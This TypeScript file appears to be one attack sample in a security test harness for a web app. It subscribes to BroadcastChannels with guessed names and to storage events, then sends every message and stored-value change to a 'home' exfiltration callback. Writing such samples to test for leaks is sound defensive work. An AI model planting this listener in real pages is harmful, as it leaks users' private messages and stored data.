/** Tunes into channels of likely names, and hears every change of what is stored. */
import type { ReadAttack } from '../attack.ts';

export const tunesIntoChannels: ReadAttack = {
  weakness: 'channel-of-the-page',
  trap: ({ home }) => {
    for (const name of ['overlay', 'sotto', 'Sotto', 'glass', 'composer', 'news', 'messages', 'rows', 'vault', '']) {
      const channel = new BroadcastChannel(name);
      channel.onmessage = ({ data }) => void home(data);
      channel.postMessage({ kind: 'text' });
    }
    addEventListener('storage', ({ key, oldValue, newValue }) => void home([key, oldValue, newValue]));
  },
  grab: ({ pause }) => pause(200),
};
